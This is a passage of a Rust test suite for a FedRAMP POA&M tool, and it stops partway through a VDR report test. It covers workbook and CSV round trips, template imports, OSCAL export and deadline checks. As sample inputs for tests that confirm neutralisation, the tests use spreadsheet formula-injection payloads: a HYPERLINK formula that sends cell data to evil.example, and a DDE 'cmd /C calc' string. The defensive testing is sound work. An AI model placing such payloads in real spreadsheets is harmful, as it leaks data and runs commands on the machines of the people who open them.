//! Deliverable formats: the POA&M workbook and CSV (round trips, formula injection, the real
//! templates, provider-style workbooks, unreadable cells) and atomic writes.

use std::path::Path;

use calamine::{Data, Reader};
use chrono::NaiveDate;
use conmon_core::io::{csv as poam_csv, xlsx};
use conmon_core::model::{AssetRef, Poam, PoamItem, RiskRating};
use conmon_tests::{sample_poam, shared_corpus};

fn d(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn assert_same(a: &Poam, b: &Poam) {
    assert_eq!(a.header, b.header);
    for (name, x, y) in [
        ("open", &a.open, &b.open),
        ("closed", &a.closed, &b.closed),
        ("configuration", &a.configuration_findings, &b.configuration_findings),
    ] {
        assert_eq!(x.len(), y.len(), "{name}");
        for (i, j) in x.iter().zip(y) {
            assert_eq!(i, j, "{name} item {}", i.poam_id);
        }
    }
    assert_eq!(a.id_high_water, b.id_high_water);
}

#[test]
fn workbook_round_trip_of_10000_items() {
    let poam = sample_poam(10_000, 7);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    xlsx::write_poam_file(&poam, &path).unwrap();
    let back = xlsx::read_poam(&path).unwrap();
    assert!(back.problems.is_empty(), "{:?}", &back.problems[..back.problems.len().min(5)]);
    assert!(back.ignored_columns.is_empty(), "{:?}", back.ignored_columns);
    assert_same(&back.poam, &poam);
    assert_eq!(back.poam, poam);
}

#[test]
fn csv_round_trip_of_10000_items() {
    let poam = sample_poam(10_000, 8);
    let mut buf = Vec::new();
    poam_csv::write_poam(&poam, &mut buf, "poam.csv").unwrap();
    let back = poam_csv::read_poam(buf.as_slice(), "poam.csv").unwrap();
    assert!(back.problems.is_empty(), "{:?}", &back.problems[..back.problems.len().min(5)]);
    // CSV carries items, not the header block.
    let mut poam = poam;
    poam.header = Default::default();
    assert_same(&back.poam, &poam);
}

/// Every free-text column of one item starts with one of the risky characters.
fn risky_poam() -> Poam {
    let leads = ["=", "+", "-", "@", "\t", "\r"];
    let mut poam = Poam::default();
    for (k, lead) in leads.iter().enumerate() {
        let mut item = PoamItem::new(format!("V-{}", k + 1), d("2026-01-05"), RiskRating::High);
        item.weakness_name = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")").into();
        item.weakness_description = format!("{lead}1+1").into();
        item.overall_remediation_plan = format!("{lead}cmd|' /C calc'!A0").into();
        item.point_of_contact = format!("{lead}SUM(1,2)");
        item.comments = Some(format!("{lead}2+3"));
        item.deviation_rationale = Some(format!("'{lead}already quoted"));
        poam.open.push(item);
    }
    poam.id_high_water = 6;
    poam
}

fn risky_texts(item: &PoamItem) -> Vec<&str> {
    vec![
        &item.weakness_name,
        &item.weakness_description,
        &item.overall_remediation_plan,
        &item.point_of_contact,
        item.comments.as_deref().unwrap(),
        item.deviation_rationale.as_deref().unwrap(),
    ]
}

#[test]
fn formula_injection_is_neutralised_in_the_workbook() {
    let poam = risky_poam();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    xlsx::write_poam_file(&poam, &path).unwrap();
    // No cell of the workbook is a formula: every risky text is a string cell.
    let mut wb = calamine::open_workbook_auto(&path).unwrap();
    let formulas = wb.worksheet_formula("Open POA&M Items").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula was written");
    let range = wb.worksheet_range("Open POA&M Items").unwrap();
    for item in &poam.open {
        for text in risky_texts(item) {
            let found = range.used_cells().any(|(_, _, c)| matches!(c, Data::String(s) if s == text));
            assert!(found, "{text:?} is not a string cell");
        }
    }
    // The risky strings carry a quote-prefix style (Excel's "text, never a formula" flag).
    let styles = unzip_entry(&path, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "no quote-prefix style");
    // And read back to the original text.
    let back = xlsx::read_poam(&path).unwrap();
    assert!(back.problems.is_empty(), "{:?}", back.problems);
    assert_eq!(back.poam.open, poam.open);
}

#[test]
fn formula_injection_is_neutralised_in_csv() {
    let poam = risky_poam();
    let mut buf = Vec::new();
    poam_csv::write_poam(&poam, &mut buf, "poam.csv").unwrap();
    let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(buf.as_slice());
    let mut fields = 0;
    for rec in r.records() {
        for f in rec.unwrap().iter() {
            fields += 1;
            assert!(!matches!(f.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')), "{f:?}");
        }
    }
    assert_eq!(fields, 6 * 32);
    let back = poam_csv::read_poam(buf.as_slice(), "poam.csv").unwrap();
    assert_eq!(back.poam.open, poam.open);
    for (a, b) in back.poam.open.iter().zip(&poam.open) {
        assert_eq!(risky_texts(a), risky_texts(b));
    }
}

/// The text of one entry of the xlsx container (calamine does not expose styles).
fn unzip_entry(path: &Path, name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn the_real_fedramp_template_imports_without_error() {
    let Some(corpus) = shared_corpus() else {
        eprintln!("skipped: ../shared/corpus is absent");
        return;
    };
    let path = corpus.join("poam/fedramp-gov__FedRAMP-POAM-Template.xlsx");
    let got = xlsx::read_poam(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    // Guidance (row 6), format hints (row 7), the example V-1Example (row 8) and the formula-only
    // row 9 are not items.
    assert_eq!(got.poam.items().count(), 0);
    assert!(got.ignored_columns.is_empty(), "{:?}", got.ignored_columns);
}

#[test]
fn the_real_inventory_template_imports_without_error() {
    let Some(corpus) = shared_corpus() else {
        eprintln!("skipped: ../shared/corpus is absent");
        return;
    };
    let path = corpus.join("poam/fedramp-gov__SSP-Appendix-M-Integrated-Inventory-Workbook-Template.xlsx");
    let got = xlsx::read_inventory(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    // Every row of the template is guidance or an example, labelled in column A.
    assert!(got.assets.is_empty(), "{:?}", got.assets.first());
}

/// A provider's workbook: its own sheet name, a title block of other size, the template's
/// columns shuffled, two extra columns, the plugin ID as a number, dates as dates, as text and as
/// serial numbers, lower-case list values, blank and formula-only rows, and trailing blank rows.
#[test]
fn a_provider_workbook_with_shuffled_and_extra_columns_imports() {
    use rust_xlsxwriter::{Format, Workbook};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("provider.xlsx");
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name("POAM Export").unwrap();
    ws.write(0, 0, "ACME Cloud POA&M, exported 2026-03-13").unwrap();
    let headers = [
        "Internal Ticket",
        "Original Risk Rating",
        "Asset Identifier",
        "POA&M ID",
        "Weakness Name",
        "Original Detection Date",
        "Scheduled Completion Date",
        "Weakness Source Identifier",
        "Weakness Detector Source",
        "Status Date",
        "Risk Adjustment",
        "False Positive",
        "Operational Requirement",
        "Adjusted Risk Rating",
        "Vendor Dependency",
        "Planned Milestones",
        "CVE",
        "Owner notes",
    ];
    for (c, h) in headers.iter().enumerate() {
        ws.write(2, c as u16, *h).unwrap();
    }
    let date = Format::new().set_num_format("mm/dd/yyyy");
    // Row 4: a real item, dates as Excel dates, plugin ID a number.
    ws.write(3, 0, "JIRA-1").unwrap();
    ws.write(3, 1, "high").unwrap();
    ws.write(3, 2, "10.1.0.5 (443/tcp)\n10.1.0.6").unwrap();
    ws.write(3, 3, "ACME-0450").unwrap();
    ws.write(3, 4, "OpenSSL vulnerable").unwrap();
    ws.write_date_with_format(3, 5, d("2026-01-12"), &date).unwrap();
    ws.write_date_with_format(3, 6, d("2026-02-11"), &date).unwrap();
    ws.write(3, 7, 187_315).unwrap();
    ws.write(3, 8, "Nessus").unwrap();
    ws.write(3, 9, "03/01/2026").unwrap();
    ws.write(3, 10, "no").unwrap();
    ws.write(3, 11, "No").unwrap();
    ws.write(3, 12, "no").unwrap();
    ws.write(3, 13, "N/A").unwrap();
    ws.write(3, 14, "No").unwrap();
    ws.write(3, 15, "(1) 2026-02-11: Patch\n\n(2) 2026/02/01: Test").unwrap();
    ws.write(3, 16, "CVE-2026-0001, CVE-2026-0002").unwrap();
    ws.write(3, 17, "ask Bob").unwrap();
    // Row 5: dates as text and as serial numbers; an RA.
    ws.write(4, 1, "Moderate").unwrap();
    ws.write(4, 2, "db.acme.internal").unwrap();
    ws.write(4, 3, "ACME-0451").unwrap();
    ws.write(4, 4, "Weak TLS").unwrap();
    ws.write(4, 5, "2026-01-20").unwrap();
    ws.write(4, 6, 46132.0).unwrap(); // 2026-04-20
    ws.write(4, 10, "Yes").unwrap();
    ws.write(4, 13, "Low").unwrap();
    // Row 6: a formula-only row, as in the template; rows 7-9 blank.
    ws.write_formula(5, 6, "=F6+90").unwrap();
    ws.write(9, 17, "").unwrap();
    wb.save(&path).unwrap();

    let got = xlsx::read_poam(&path).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    assert_eq!(got.ignored_columns, ["POAM Export!A3: Internal Ticket", "POAM Export!R3: Owner notes"]);
    assert_eq!(got.poam.open.len(), 2);
    let a = &got.poam.open[0];
    assert_eq!(a.poam_id, "ACME-0450");
    assert_eq!(a.original_risk_rating, RiskRating::High);
    assert_eq!(a.weakness_source_identifier, "187315");
    assert_eq!(a.assets, [AssetRef::host("10.1.0.5").with_port(443, "tcp"), AssetRef::host("10.1.0.6")]);
    assert_eq!(a.original_detection_date, d("2026-01-12"));
    assert_eq!(a.scheduled_completion_date, Some(d("2026-02-11")));
    assert_eq!(a.status_date, Some(d("2026-03-01")));
    assert_eq!(a.planned_milestones.len(), 2);
    assert_eq!(a.planned_milestones[1].date, d("2026-02-01"));
    assert_eq!(a.cves, ["CVE-2026-0001", "CVE-2026-0002"]);
    assert_eq!(a.adjusted_risk_rating, None);
    let b = &got.poam.open[1];
    assert_eq!(b.original_detection_date, d("2026-01-20"));
    assert_eq!(b.scheduled_completion_date, Some(d("2026-04-20")));
    assert_eq!(b.risk_adjustment, conmon_core::model::DeviationFlag::Yes);
    assert_eq!(b.effective_risk_rating(), RiskRating::Low);
    assert_eq!(got.poam.id_high_water, 451);
}

/// Unreadable cells are all reported, each with sheet, row and column; readable items are kept.
#[test]
fn unreadable_cells_are_reported_with_sheet_row_and_column() {
    use rust_xlsxwriter::Workbook;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bad.xlsx");
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    ws.set_name("Open POA&M Items").unwrap();
    for (c, h) in
        ["POAM ID", "Original Detection Date", "Original Risk Rating", "Risk Adjustment", "Planned Milestones"]
            .iter()
            .enumerate()
    {
        ws.write(4, c as u16, *h).unwrap();
    }
    let rows: [[&str; 5]; 4] = [
        ["V-1", "2026-01-05", "High", "No", "(1) 2026-02-04: Patch"],
        ["V-2", "2026-02-30", "High", "No", ""],
        ["V-3", "2026-01-05", "Critical", "Approved", ""],
        ["V-4", "2026-01-05", "Low", "No", "1) soon: patch"],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            ws.write(5 + r as u32, c as u16, *v).unwrap();
        }
    }
    wb.save(&path).unwrap();
    let got = xlsx::read_poam(&path).unwrap();
    let ids: Vec<&str> = got.poam.open.iter().map(|i| i.poam_id.as_str()).collect();
    assert_eq!(ids, ["V-1", "V-4"]);
    let at: Vec<(String, u64, u64, String)> = got
        .problems
        .iter()
        .map(|p| {
            let l = &p.location;
            (l.sheet.clone().unwrap(), l.row.unwrap(), l.column.unwrap(), l.field.clone().unwrap())
        })
        .collect();
    let sheet = "Open POA&M Items".to_string();
    assert_eq!(
        at,
        [
            (sheet.clone(), 7, 2, "K (Original Detection Date)".to_string()),
            (sheet.clone(), 8, 3, "S (Original Risk Rating)".to_string()),
            (sheet.clone(), 8, 4, "U (Risk Adjustment)".to_string()),
            (sheet.clone(), 9, 5, "M (Planned Milestones)".to_string()),
        ],
        "{:#?}",
        got.problems
    );
    assert!(got.problems[1].message.contains("`critical` is not a FedRAMP risk rating"), "{}", got.problems[1].message);
    assert_eq!(got.problems[0].code, "invalid_value");
}

#[test]
fn a_failed_write_never_replaces_the_previous_workbook() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    let good = sample_poam(20, 1);
    xlsx::write_poam_file(&good, &path).unwrap();
    let before = std::fs::read(&path).unwrap();
    // Excel cannot hold dates before 1900: the write fails, naming the item and the cell.
    let mut bad = sample_poam(50, 2);
    let item = bad.open.get_mut(3).unwrap();
    item.original_detection_date = d("1850-01-01");
    let id = item.poam_id.clone();
    let err = xlsx::write_poam_file(&bad, &path).unwrap_err();
    assert!(err.to_string().contains(&format!("item {id}")), "{err}");
    assert_eq!(err.location().sheet.as_deref(), Some("Open POA&M Items"));
    assert_eq!(err.location().row, Some(9));
    assert_eq!(err.location().field.as_deref(), Some("K (Original Detection Date)"));
    assert_eq!(std::fs::read(&path).unwrap(), before);
    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(left.len(), 1, "a temporary file was left behind");
}

/// NIST's OSCAL POA&M JSON Schema, put in target/oscal-schema by scripts/fetch-oscal-schema.sh
/// (the test command runs it).
fn oscal_schema() -> Option<serde_json::Value> {
    let path = conmon_tests::workspace_root().join("target/oscal-schema/oscal_poam_schema.json");
    let text = std::fs::read_to_string(&path).ok()?;
    Some(serde_json::from_str(&text).unwrap())
}

#[test]
fn oscal_poam_validates_against_the_nist_schema() {
    let Some(schema) = oscal_schema() else {
        eprintln!("skipped: run scripts/fetch-oscal-schema.sh to get NIST's OSCAL POA&M schema");
        return;
    };
    let validator = jsonschema::validator_for(&schema).unwrap();
    let poam = sample_poam(300, 11);
    let doc = conmon_core::io::oscal::to_oscal(&poam, &Default::default());
    let errors: Vec<String> =
        validator.iter_errors(&doc).take(10).map(|e| format!("{} at {}", e, e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // The schema is not vacuous: a risk without its required status is rejected.
    let mut broken = doc.clone();
    broken["plan-of-action-and-milestones"]["risks"][0].as_object_mut().unwrap().remove("status");
    assert!(!validator.is_valid(&broken));

    // FedRAMP shape (§9): every poam-item has a POAM-ID prop, one observation and one risk.
    let p = &doc["plan-of-action-and-milestones"];
    let items = p["poam-items"].as_array().unwrap();
    assert_eq!(items.len(), 300);
    let risks = p["risks"].as_array().unwrap();
    for (item, src) in items.iter().zip(poam.items()) {
        assert_eq!(item["props"][0]["name"], "POAM-ID");
        assert_eq!(item["props"][0]["value"], src.poam_id.as_str());
        // The detection, then one observation per deviation (R9.4 types), in this order.
        let mut kinds = vec!["finding"];
        for (kind, flag) in [
            ("risk-adjustment", src.risk_adjustment),
            ("false-positive", src.false_positive),
            ("operational-requirement", src.operational_requirement),
        ] {
            if flag != conmon_core::model::DeviationFlag::No {
                kinds.push(kind);
            }
        }
        if src.vendor_dependency {
            kinds.push("vendor-dependency");
        }
        let observations = p["observations"].as_array().unwrap();
        let related: Vec<&serde_json::Value> = item["related-observations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| observations.iter().find(|o| o["uuid"] == r["observation-uuid"]).unwrap())
            .collect();
        assert_eq!(related.iter().map(|o| o["types"][0].as_str().unwrap()).collect::<Vec<_>>(), kinds);
        assert_eq!(related[0]["collected"], format!("{}T00:00:00Z", src.original_detection_date));
        if let Some(ra) = related.iter().find(|o| o["types"][0] == "risk-adjustment") {
            let rationale = src.deviation_rationale.as_deref().map(str::trim).filter(|r| !r.is_empty());
            assert_eq!(ra["description"], rationale.unwrap_or("See the deviation request."));
            if let Some(d) = src.risk_adjustment_approved_date {
                assert_eq!(ra["collected"], format!("{d}T00:00:00Z"));
            }
            if let Some(docs) = src.supporting_documents.as_deref() {
                assert_eq!(ra["relevant-evidence"][0]["description"], docs.trim());
            }
        }
        assert_eq!(item["related-risks"].as_array().unwrap().len(), 1);
        let risk = risks.iter().find(|r| r["uuid"] == item["related-risks"][0]["risk-uuid"]).unwrap();
        // The risk relates to the detection alone (FedRAMP's timeliness check reads its date).
        assert_eq!(
            risk["related-observations"],
            serde_json::json!([{ "observation-uuid": item["related-observations"][0]["observation-uuid"] }])
        );
        let expect_status = if src.is_closed() { "closed" } else { risk["status"].as_str().unwrap() };
        assert_eq!(risk["status"], expect_status);
        if let Some(due) = src.scheduled_completion_date {
            assert_eq!(risk["deadline"], format!("{}T23:59:59Z", due.pred_opt().unwrap()));
        }
        let props = risk["props"].as_array().cloned().unwrap_or_default();
        let has = |name: &str, value: &str| props.iter().any(|p| p["name"] == name && p["value"] == value);
        if src.kev {
            assert!(has("kev-catalog", "yes"));
            assert!(has("kev-due-date", &src.kev_due_date.unwrap().to_string()));
        }
        if src.risk_adjustment == conmon_core::model::DeviationFlag::Yes {
            assert!(has("risk-adjustment", "approved"));
            assert!(risk["mitigating-factors"].as_array().is_some_and(|m| !m.is_empty()));
        }
        if src.vendor_dependency && !src.is_closed() {
            assert!(has("vendor-dependency", "tracking"));
            let log = risk["risk-log"]["entries"].as_array().unwrap();
            assert!(log.iter().any(|e| e["title"] == "Vendor Check-in"));
        }
    }
    // Deterministic: the same POA&M gives the same document.
    assert_eq!(doc, conmon_core::io::oscal::to_oscal(&poam, &Default::default()));

    // import-ssp (FedRAMP's `has-import-ssp`, `has-import-ssp-internal-href`): without an SSP,
    // a `no-oscal-ssp` resource; with one, a `system-security-plan` resource with one rlink.
    let ssp_resource = |doc: &serde_json::Value| -> serde_json::Value {
        let p = &doc["plan-of-action-and-milestones"];
        let href = p["import-ssp"]["href"].as_str().unwrap();
        let uuid = href.strip_prefix('#').expect("a fragment into the back matter");
        p["back-matter"]["resources"].as_array().unwrap().iter().find(|r| r["uuid"] == uuid).unwrap().clone()
    };
    let type_of = |r: &serde_json::Value| {
        r["props"].as_array().unwrap().iter().find(|p| p["name"] == "type").unwrap()["value"].clone()
    };
    assert_eq!(type_of(&ssp_resource(&doc)), "no-oscal-ssp");
    for (href, media) in [("../ssp/ssp.json", "application/json"), ("https://example.invalid/SSP.XML", "text/xml")] {
        let options = conmon_core::io::oscal::OscalOptions {
            ssp_href: Some(href.to_string()),
            fedramp_id: Some("F1234567890".to_string()),
            ..Default::default()
        };
        let with_ssp = conmon_core::io::oscal::to_oscal(&poam, &options);
        let errors: Vec<String> = validator.iter_errors(&with_ssp).take(10).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{errors:#?}");
        let r = ssp_resource(&with_ssp);
        assert_eq!(type_of(&r), "system-security-plan");
        assert_eq!(r["rlinks"], serde_json::json!([{ "href": href, "media-type": media }]));
        assert_eq!(with_ssp["plan-of-action-and-milestones"]["system-id"]["id"], "F1234567890");
    }
}

/// `write_oscal` streams the document one array element at a time; its bytes are those of the
/// document `to_oscal` builds, pretty-printed by serde_json, whatever the options and the POA&M
/// (deviations of each kind, vendor dependencies, closed items, no CSP, no items, and text that
/// holds the writer's own marker, which makes it build the document instead).
#[test]
fn oscal_written_in_pieces_is_the_built_document_byte_for_byte() {
    use conmon_core::io::oscal::{OscalOptions, to_oscal, write_oscal};
    use conmon_core::policy::OscalDeadline;
    let check = |poam: &Poam, options: &OscalOptions, what: &str| {
        let mut streamed = Vec::new();
        write_oscal(poam, options, &mut streamed, "oscal-poam.json").unwrap();
        let built = serde_json::to_vec_pretty(&to_oscal(poam, options)).unwrap();
        if streamed != built {
            let at = streamed.iter().zip(&built).position(|(a, b)| a != b).unwrap_or(streamed.len().min(built.len()));
            let show =
                |b: &[u8]| String::from_utf8_lossy(&b[at.saturating_sub(120)..(at + 120).min(b.len())]).into_owned();
            panic!("{what}: differs at byte {at}:\nstreamed: {}\nbuilt:    {}", show(&streamed), show(&built));
        }
        streamed.len()
    };
    let with_ssp = OscalOptions {
        ssp_href: Some("../ssp/ssp.json".to_string()),
        fedramp_id: Some("F1234567890".to_string()),
        deadline: OscalDeadline::DueDateMidnight,
        ..Default::default()
    };
    for seed in [1, 2, 3] {
        let mut poam = sample_poam(80, seed);
        let kinds = |p: &Poam, f: fn(&PoamItem) -> bool| p.items().filter(|i| f(i)).count();
        assert!(kinds(&poam, |i| i.vendor_dependency) > 0 && kinds(&poam, |i| i.is_closed()) > 0, "seed {seed}");
        check(&poam, &OscalOptions::default(), "default options");
        let len = check(&poam, &with_ssp, "an SSP, a FedRAMP ID, deadline at midnight");
        assert!(len > 80 * 1000, "{len}");
        poam.header.csp = String::new();
        check(&poam, &OscalOptions::default(), "no CSP");
    }
    check(&Poam::default(), &OscalOptions::default(), "no items");
    let mut marked = sample_poam(5, 4);
    if let Some(item) = marked.open.first_mut() {
        item.weakness_name = "\0conmon-oscal-risks\0".into();
    }
    check(&marked, &OscalOptions::default(), "a marker in an item's text");

    // Each poam-item's related observations are exactly its item's observations.
    let doc = to_oscal(&sample_poam(80, 5), &OscalOptions::default());
    let p = &doc["plan-of-action-and-milestones"];
    let observed: std::collections::HashSet<&str> =
        p["observations"].as_array().unwrap().iter().map(|o| o["uuid"].as_str().unwrap()).collect();
    let related: Vec<&str> = p["poam-items"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|i| i["related-observations"].as_array().unwrap())
        .map(|r| r["observation-uuid"].as_str().unwrap())
        .collect();
    assert_eq!(related.len(), observed.len());
    assert!(related.iter().all(|u| observed.contains(u)));

    // `local-definitions` lists the tools and the assets in the order of their names, whatever
    // order the maps behind them hold them in.
    let local = &p["local-definitions"];
    for (list, key) in [("components", "title"), ("inventory-items", "description")] {
        let names: Vec<&str> = local[list].as_array().unwrap().iter().map(|c| c[key].as_str().unwrap()).collect();
        assert!(names.len() > 1 && names.windows(2).all(|w| w[0] < w[1]), "{list}: {names:?}");
    }
}

/// FedRAMP's OSCAL POA&M Schematron, assertion `has-timely-completion-date`, on one risk of an
/// exported document: `deadline < collected + P30D|P90D|P180D`, the duration chosen by the
/// risk's last `impact` facet and `collected` read from its observation (C3).
fn fedramp_timely(doc: &serde_json::Value, poam_id: &str) -> bool {
    use chrono::{DateTime, Duration, Utc};
    let p = &doc["plan-of-action-and-milestones"];
    let item = p["poam-items"].as_array().unwrap().iter().find(|i| i["props"][0]["value"] == poam_id).unwrap();
    let risk_uuid = &item["related-risks"][0]["risk-uuid"];
    let risk = p["risks"].as_array().unwrap().iter().find(|r| &r["uuid"] == risk_uuid).unwrap();
    let obs_uuid = &risk["related-observations"][0]["observation-uuid"];
    let obs = p["observations"].as_array().unwrap().iter().find(|o| &o["uuid"] == obs_uuid).unwrap();
    let impact = risk["characterizations"][0]["facets"]
        .as_array()
        .unwrap()
        .iter()
        .rfind(|f| f["name"] == "impact")
        .and_then(|f| f["value"].as_str())
        .unwrap();
    let days = match impact {
        "high" => 30,
        "moderate" => 90,
        "low" => 180,
        other => panic!("impact {other}"),
    };
    let at = |v: &serde_json::Value| v.as_str().unwrap().parse::<DateTime<Utc>>().unwrap();
    at(&risk["deadline"]) < at(&obs["collected"]) + Duration::days(days)
}

#[test]
fn the_oscal_deadline_passes_fedramps_timeliness_check_exactly_when_the_engine_calls_it_on_time() {
    use conmon_core::io::oscal::{OscalOptions, to_oscal};
    use conmon_core::model::DeviationFlag;
    use conmon_core::policy::{OscalDeadline, Policy};
    // Detected 2026-01-10: the engine's due dates (C2, due date itself on time) are High
    // 2026-02-09, Moderate 2026-04-10, Low 2026-07-09.
    let k = d("2026-01-10");
    let mut poam = Poam::default();
    for (id, rating, scheduled) in [
        ("V-1", RiskRating::High, "2026-02-09"),
        ("V-2", RiskRating::High, "2026-02-10"),
        ("V-3", RiskRating::Moderate, "2026-04-10"),
        ("V-4", RiskRating::Moderate, "2026-04-11"),
        ("V-5", RiskRating::Low, "2026-07-09"),
        ("V-6", RiskRating::Low, "2026-07-10"),
        ("V-7", RiskRating::High, "2026-01-20"),
    ] {
        let mut item = PoamItem::new(id, k, rating);
        item.scheduled_completion_date = Some(d(scheduled));
        poam.open.push(item);
    }
    // An approved risk adjustment High -> Moderate: FedRAMP's check reads the adjusted facet.
    let mut ra = PoamItem::new("V-8", k, RiskRating::High);
    ra.risk_adjustment = DeviationFlag::Yes;
    ra.adjusted_risk_rating = Some(RiskRating::Moderate);
    ra.scheduled_completion_date = Some(d("2026-04-10"));
    poam.open.push(ra);

    let doc = to_oscal(&poam, &OscalOptions::default());
    let risk_deadline = |id: &str| {
        let p = &doc["plan-of-action-and-milestones"];
        let item = p["poam-items"].as_array().unwrap().iter().find(|i| i["props"][0]["value"] == id).unwrap();
        let uuid = &item["related-risks"][0]["risk-uuid"];
        p["risks"].as_array().unwrap().iter().find(|r| &r["uuid"] == uuid).unwrap()["deadline"].clone()
    };
    assert_eq!(risk_deadline("V-1"), "2026-02-08T23:59:59Z");
    // V-8's approved RA has no rationale (validation reports that): it still has the mitigating
    // factor an RA needs (R9.4), pointing to the deviation request.
    let p = &doc["plan-of-action-and-milestones"];
    let v8 = p["poam-items"].as_array().unwrap().iter().find(|i| i["props"][0]["value"] == "V-8").unwrap();
    let v8_risk =
        p["risks"].as_array().unwrap().iter().find(|r| r["uuid"] == v8["related-risks"][0]["risk-uuid"]).unwrap();
    assert_eq!(v8_risk["mitigating-factors"][0]["description"], "See the deviation request.");
    assert_eq!(risk_deadline("V-2"), "2026-02-09T23:59:59Z");
    let timely: Vec<(&str, bool)> =
        ["V-1", "V-2", "V-3", "V-4", "V-5", "V-6", "V-7", "V-8"].map(|id| (id, fedramp_timely(&doc, id))).to_vec();
    assert_eq!(
        timely,
        [
            ("V-1", true),
            ("V-2", false),
            ("V-3", true),
            ("V-4", false),
            ("V-5", true),
            ("V-6", false),
            ("V-7", true),
            ("V-8", true),
        ]
    );

    // Midnight of the due date: FedRAMP's strict "<" then fails on the last day the engine allows.
    let midnight = to_oscal(&poam, &OscalOptions { deadline: OscalDeadline::DueDateMidnight, ..Default::default() });
    assert!(
        !fedramp_timely(&midnight, "V-1") && !fedramp_timely(&midnight, "V-3") && !fedramp_timely(&midnight, "V-5")
    );
    assert!(fedramp_timely(&midnight, "V-7"));

    // The policy carries the choice to the export.
    let policy = Policy::from_toml_str("oscal_deadline = \"due_date_midnight\"\n", "p.toml").unwrap();
    assert_eq!(OscalOptions::for_policy(&policy).deadline, OscalDeadline::DueDateMidnight);
    assert_eq!(OscalOptions::for_policy(&Policy::fedramp_rev5()).deadline, OscalDeadline::BeforeDueDate);
    let e = Policy::from_toml_str("oscal_deadline = \"midnight\"\n", "p.toml").unwrap_err();
    assert_eq!(e.location().field.as_deref(), Some("oscal_deadline"), "{e}");
}

#[test]
fn oscal_output_has_the_shape_of_the_fedramp_examples() {
    let Some(corpus) = shared_corpus() else {
        eprintln!("skipped: ../shared/corpus is absent");
        return;
    };
    let example: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(corpus.join("poam/fedramp-automation__rev5_FedRAMP-POAM-OSCAL-Template.json"))
            .unwrap(),
    )
    .unwrap();
    let ours = conmon_core::io::oscal::to_oscal(&sample_poam(20, 3), &Default::default());
    let (e, o) = (&example["plan-of-action-and-milestones"], &ours["plan-of-action-and-milestones"]);
    for key in ["uuid", "metadata", "system-id", "local-definitions", "observations", "risks", "poam-items"] {
        assert!(e.get(key).is_some() && o.get(key).is_some(), "{key}");
    }
    // The same POAM-ID prop (name and namespace) as FedRAMP's example item.
    assert_eq!(e["poam-items"][0]["props"][0]["name"], o["poam-items"][0]["props"][0]["name"]);
    assert_eq!(e["poam-items"][0]["props"][0]["ns"], o["poam-items"][0]["props"][0]["ns"]);
    assert_eq!(e["observations"][0]["methods"], o["observations"][0]["methods"]);
    assert_eq!(e["observations"][0]["types"], o["observations"][0]["types"]);
}

fn vdr_item(id: &str, detected: &str, evaluated: Option<&str>, n: u8, irv: bool, lev: bool) -> PoamItem {
    use conmon_core::model::{NRating, VdrFacts};
    let t = |s: &str| -> chrono::DateTime<chrono::Utc> { s.parse().unwrap() };
    let mut item = PoamItem::new(id, t(detected).date_naive(), RiskRating::Moderate);
    item.weakness_name = format!("Weakness of {id}").into();
    item.weakness_detector_source = "Nessus".into();
    item.vdr = Some(VdrFacts {
        detected_at: t(detected),
        evaluated_at: evaluated.map(t),
        n_rating: NRating::new(n).unwrap(),
        internet_reachable: irv,
        likely_exploitable: lev,
        reductions: Vec::new(),
        fully_mitigated_at: None,
        remediated_at: None,
        false_positive_at: None,
    });
    item
}

#[test]
fn vdr_report_follows_the_rules_and_validates_against_the_schema_from_the_rule_text() {
    use conmon_core::io::vdr;
    use conmon_core::policy::{Policy, VdrLevel};
    use conmon_core::sla::AsOf;
    let mut policy = Policy::fedramp_rev5();
    policy.vdr_level = VdrLevel::Low;
    let mut poam = Poam::default();
    poam.header.csp = "Example Cloud".into();
    // Worked example 18: Low, N3, NLEV, evaluated 2026-01-05 → accepted unless fixed by 2026-07-16.
    poam.open.push(vdr_item("V-18", "2026-01-02T09:00:00Z", Some("2026-01-05T00:00:00Z"), 3, false, false));
    // Low, N4, IRV+LEV: 8 days from evaluation 2026-07-01 → due 2026-07-09, overdue at 2026-07-20.
    poam.open.push(vdr_item("V-20", "2026-06-30T00:00:00Z", Some("2026-07-01T00:00:00Z"), 4, true, true));
    // Low, N2, NIRV+LEV: 160 days from 2026-07-10 → on track.
    poam.open.push(vdr_item("V-21", "2026-07-09T00:00:00Z", Some("2026-07-10T00:00:00Z"), 2, false, true));
    // A false positive, closed.
    let mut fp = vdr_item("V-22", "2026-07-01T00:00:00Z", Some("2026-07-02T00:00:00Z"), 3, true, true);
    fp.vdr.as_mut().unwrap().false_positive_at = Some("2026-07-03T00:00:00Z".parse().unwrap());
    poam.open.push(fp);
    // A Rev5-only item: no VDR facts.
    poam.open.push(PoamItem::new("V-23", d("2026-07-01"), RiskRating::Low));

    let report = vdr::report(&poam, &policy, AsOf::date(d("2026-07-20"))).unwrap();
